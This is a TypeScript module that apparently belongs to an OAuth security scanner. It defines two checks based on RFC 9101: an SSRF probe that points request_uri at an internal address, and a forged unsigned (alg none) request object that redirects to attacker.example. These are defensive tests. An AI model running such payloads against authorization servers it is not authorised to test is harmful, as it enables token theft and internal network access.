import type { Attack } from '../attack'

export const requestObjectAttacks: readonly Attack[] = [
  {
    id: 'request-uri',
    gets: 'requests inside the server’s network (SSRF)',
    reference: 'RFC 9101 §10.4',
    severity: 'high',
    decides: 'a request_uri at an internal address is called: with a request, or the beginning of TLS',
    run: async (target) => {
      const { base, received } = target.internal()
      const before = received()
      const client = await target.client()
      await target.visit(client, { request_uri: `${base}/request` })
      await target.visit(client, { request_uri: `${base.replace('http:', 'https:')}/request` })
      return received() > before ? 'the request_uri was called' : undefined
    },
  },
  {
    id: 'request-unsigned',
    gets: 'an authorization request that the client never made',
    reference: 'RFC 9101 §10.1',
    severity: 'critical',
    decides: 'an unsigned request object (alg none) replaces the redirect URI',
    run: async (target) => {
      const client = await target.client()
      const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
      const claims = {
        iss: client.id,
        aud: target.issuer,
        client_id: client.id,
        redirect_uri: 'https://attacker.example/callback',
      }
      const { arrival } = await target.visit(client, {
        request: `${encode({ alg: 'none' })}.${encode(claims)}.`,
      })
      return arrival?.hostname === 'attacker.example' ? 'the redirect URI of the object was taken' : undefined
    },
  },
]
